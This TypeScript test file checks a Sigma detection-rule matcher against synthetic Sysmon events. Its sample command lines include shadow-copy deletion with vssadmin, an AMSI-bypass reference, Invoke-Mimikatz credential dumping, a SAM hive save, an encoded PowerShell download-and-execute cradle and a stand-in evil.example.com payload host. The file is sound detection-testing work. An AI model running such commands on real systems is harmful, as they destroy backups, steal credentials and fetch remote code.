import { describe, expect, it } from 'vitest';
import { matcher, sysmon } from './helpers';

const cmd = (commandLine: string) => sysmon({ CommandLine: commandLine });
const rule = (item: string, condition = 'selection') => matcher(`  selection:\n${item}\n  condition: ${condition}`);

/** UTF-16LE then Base64, as PowerShell's -EncodedCommand takes it. */
const encodedCommand = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

describe('generic modifiers (Sigma appendix "modifiers")', () => {
  it('contains, startswith, endswith', () => {
    expect(rule("    CommandLine|contains: 'Hidden'")(cmd('powershell -w hidden'))).toBe(true);
    expect(rule("    CommandLine|contains: 'Hidden'")(cmd('powershell'))).toBe(false);
    expect(rule("    CommandLine|startswith: 'net '")(cmd('NET user'))).toBe(true);
    expect(rule("    CommandLine|startswith: 'net '")(cmd('c:\\net user'))).toBe(false);
    expect(rule("    CommandLine|endswith: '.ps1'")(cmd('run a.PS1'))).toBe(true);
    expect(rule("    CommandLine|endswith: '.ps1'")(cmd('a.ps1 -x'))).toBe(false);
  });

  it('keeps wildcards inside contains values', () => {
    const match = rule("    CommandLine|contains: 'reg* save'");
    expect(match(cmd('x reg.exe save hklm\\sam'))).toBe(true);
    expect(match(cmd('x save reg'))).toBe(false);
  });

  it('all AND-s the list', () => {
    const match = rule("    CommandLine|contains|all:\n      - 'vssadmin'\n      - 'delete'\n      - 'shadows'");
    expect(match(cmd('vssadmin.exe Delete Shadows /all'))).toBe(true);
    expect(match(cmd('vssadmin.exe list shadows'))).toBe(false);
  });

  it('cased makes a value case-sensitive', () => {
    const match = rule("    CommandLine|contains|cased: 'AmsiUtils'");
    expect(match(cmd('[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")'))).toBe(true);
    expect(match(cmd('amsiutils'))).toBe(false);
  });

  it('neq negates the whole item: the field differs from every value', () => {
    const match = rule("    User|neq:\n      - 'NT AUTHORITY\\SYSTEM'\n      - 'NT AUTHORITY\\LOCAL SERVICE'");
    expect(match(sysmon({ User: 'CORP\\bob' }))).toBe(true);
    expect(match(sysmon({ User: 'nt authority\\system' }))).toBe(false);
    expect(match(sysmon({ User: 'NT AUTHORITY\\LOCAL SERVICE' }))).toBe(false);
  });

  it('exists tests presence, even of an empty value', () => {
    expect(rule('    ParentImage|exists: true')(sysmon({ ParentImage: '' }))).toBe(true);
    expect(rule('    ParentImage|exists: true')(sysmon({}))).toBe(false);
    expect(rule('    ParentImage|exists: false')(sysmon({}))).toBe(true);
    expect(rule('    ParentImage|exists: false')(sysmon({ ParentImage: 'x' }))).toBe(false);
  });

  it('expand resolves placeholders from the compile options', () => {
    const match = matcher("  selection:\n    User|expand: '%Administrators%'\n  condition: selection", { placeholders: { Administrators: ['CORP\\admin*', 'CORP\\root'] } });
    expect(match(sysmon({ User: 'corp\\administrator' }))).toBe(true);
    expect(match(sysmon({ User: 'CORP\\root' }))).toBe(true);
    expect(match(sysmon({ User: 'CORP\\bob' }))).toBe(false);
  });

  it('without expand a %placeholder% is literal text', () => {
    const match = rule("    CommandLine|contains: '%TEMP%'");
    expect(match(cmd('copy x %temp%\\y'))).toBe(true);
    expect(match(cmd('copy x C:\\Temp\\y'))).toBe(false);
  });
});

describe('string modifiers', () => {
  it('re searches anywhere, case-sensitive unless i', () => {
    expect(rule("    CommandLine|re: '-e(nc|ncodedcommand) [A-Za-z0-9+/=]{20,}'")(cmd('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A'))).toBe(true);
    expect(rule("    CommandLine|re: '-ENC'")(cmd('powershell -enc x'))).toBe(false);
    expect(rule("    CommandLine|re|i: '-ENC'")(cmd('powershell -enc x'))).toBe(true);
  });

  it('re|m anchors at line breaks and re|s lets a dot cross them', () => {
    expect(rule("    CommandLine|re: '^second'")(cmd('first\nsecond'))).toBe(false);
    expect(rule("    CommandLine|re|m: '^second'")(cmd('first\nsecond'))).toBe(true);
    expect(rule("    CommandLine|re: 'first.second'")(cmd('first\nsecond'))).toBe(false);
    expect(rule("    CommandLine|re|s: 'first.second'")(cmd('first\nsecond'))).toBe(true);
  });

  it('base64 matches the plain Base64 encoding (offset 0 only)', () => {
    // 18 characters: a whole number of Base64 groups, so the encoding is a prefix of the longer text's.
    const match = rule("    CommandLine|base64|contains: 'evil.example.com/p'");
    expect(match(cmd(`echo ${Buffer.from('evil.example.com/payload').toString('base64')} | base64 -d`))).toBe(true);
    expect(match(cmd(`echo ${Buffer.from('xevil.example.com/payload').toString('base64')} | base64 -d`))).toBe(false);
    expect(match(cmd('echo evil.example.com/payload'))).toBe(false);
  });

  it('base64offset finds the value at each of the three byte offsets', () => {
    const match = rule("    CommandLine|base64offset|contains: 'Invoke-Mimikatz'");
    for (const prefix of ['', 'a', 'ab', 'abc', 'abcd']) {
      expect(match(cmd(Buffer.from(`${prefix}Invoke-Mimikatz -DumpCreds`).toString('base64')))).toBe(true);
    }
    expect(match(cmd(Buffer.from('Invoke-Something').toString('base64')))).toBe(false);
  });

  it('wide|base64offset finds text inside a PowerShell -EncodedCommand', () => {
    const match = rule("    CommandLine|wide|base64offset|contains: 'DownloadString'");
    for (const prefix of ['', 'I', 'IE', 'IEX (New-Object Net.WebClient).']) {
      expect(match(cmd(`powershell -enc ${encodedCommand(`${prefix}DownloadString('http://x')`)}`))).toBe(true);
    }
    expect(match(cmd(`powershell -enc ${encodedCommand('Write-Host hello')}`))).toBe(false);
  });

  it('utf16le / wide, utf16be and utf16 (with BOM) encode before base64', () => {
    const value = 'cmd';
    expect(rule(`    CommandLine|utf16le|base64: '${value}'`)(cmd(Buffer.from(value, 'utf16le').toString('base64')))).toBe(true);
    expect(rule(`    CommandLine|wide|base64: '${value}'`)(cmd(Buffer.from(value, 'utf16le').toString('base64')))).toBe(true);
    const be = Buffer.from(value, 'utf16le').swap16();
    expect(rule(`    CommandLine|utf16be|base64: '${value}'`)(cmd(be.toString('base64')))).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(value, 'utf16le')]);
    expect(rule(`    CommandLine|utf16|base64: '${value}'`)(cmd(bom.toString('base64')))).toBe(true);
    expect(rule(`    CommandLine|utf16|base64: '${value}'`)(cmd(Buffer.from(value, 'utf16le').toString('base64')))).toBe(false);
  });

  it('windash makes word-initial - and / interchangeable with the dash characters', () => {
    const match = rule("    CommandLine|windash|contains: ' -encodedcommand '");
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(match(cmd(`powershell ${dash}EncodedCommand AAAA`))).toBe(true);
    expect(match(cmd('powershell EncodedCommand AAAA'))).toBe(false);
    const inner = rule("    CommandLine|windash|contains: 'a-b'");
    expect(inner(cmd('x a-b'))).toBe(true);
    expect(inner(cmd('x a/b'))).toBe(false);
  });
});

describe('numeric, IP and field-reference modifiers', () => {
  it('lt, lte, gt, gte compare numbers and fail on non-numbers', () => {
    expect(rule('    DestinationPort|lt: 1024')(sysmon({ DestinationPort: '443' }))).toBe(true);
    expect(rule('    DestinationPort|lt: 1024')(sysmon({ DestinationPort: '1024' }))).toBe(false);
    expect(rule('    DestinationPort|lte: 1024')(sysmon({ DestinationPort: 1024 }))).toBe(true);
    expect(rule('    DestinationPort|gt: 1024')(sysmon({ DestinationPort: '4444' }))).toBe(true);
    expect(rule('    DestinationPort|gte: 4444')(sysmon({ DestinationPort: '4443' }))).toBe(false);
    expect(rule('    DestinationPort|gt: 10')(sysmon({ DestinationPort: 'http' }))).toBe(false);
  });

  it('cidr matches IPv4 and IPv6 networks', () => {
    const v4 = rule("    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.0.0/16'");
    expect(v4(sysmon({ DestinationIp: '10.20.30.40' }))).toBe(true);
    expect(v4(sysmon({ DestinationIp: '192.168.255.1' }))).toBe(true);
    expect(v4(sysmon({ DestinationIp: '11.0.0.1' }))).toBe(false);
    expect(v4(sysmon({ DestinationIp: '::ffff:10.1.1.1' }))).toBe(true);
    expect(v4(sysmon({ DestinationIp: 'not-an-ip' }))).toBe(false);
    const v6 = rule("    DestinationIp|cidr: 'fe80::/10'");
    expect(v6(sysmon({ DestinationIp: 'fe80::1c2d:3e4f%12' }))).toBe(true);
    expect(v6(sysmon({ DestinationIp: 'FEBF:0:0:0:0:0:0:1' }))).toBe(true);
    expect(v6(sysmon({ DestinationIp: 'fec0::1' }))).toBe(false);
    expect(v6(sysmon({ DestinationIp: '10.0.0.1' }))).toBe(false);
  });

  it('fieldref compares two fields of the same event', () => {
    const same = rule('    TargetUserName|fieldref: SubjectUserName');
    expect(same(sysmon({ TargetUserName: 'Bob', SubjectUserName: 'bob' }))).toBe(true);
    expect(same(sysmon({ TargetUserName: 'bob', SubjectUserName: 'alice' }))).toBe(false);
    expect(same(sysmon({ TargetUserName: 'bob' }))).toBe(false);
    const inside = rule('    CommandLine|fieldref|contains: TargetFilename');
    expect(inside(sysmon({ CommandLine: 'copy C:\\x.exe', TargetFilename: 'c:\\x.exe' }))).toBe(true);
    const differs = rule('    TargetUserName|fieldref|neq: SubjectUserName');
    expect(differs(sysmon({ TargetUserName: 'bob', SubjectUserName: 'alice' }))).toBe(true);
    expect(differs(sysmon({ TargetUserName: 'bob', SubjectUserName: 'BOB' }))).toBe(false);
  });
});
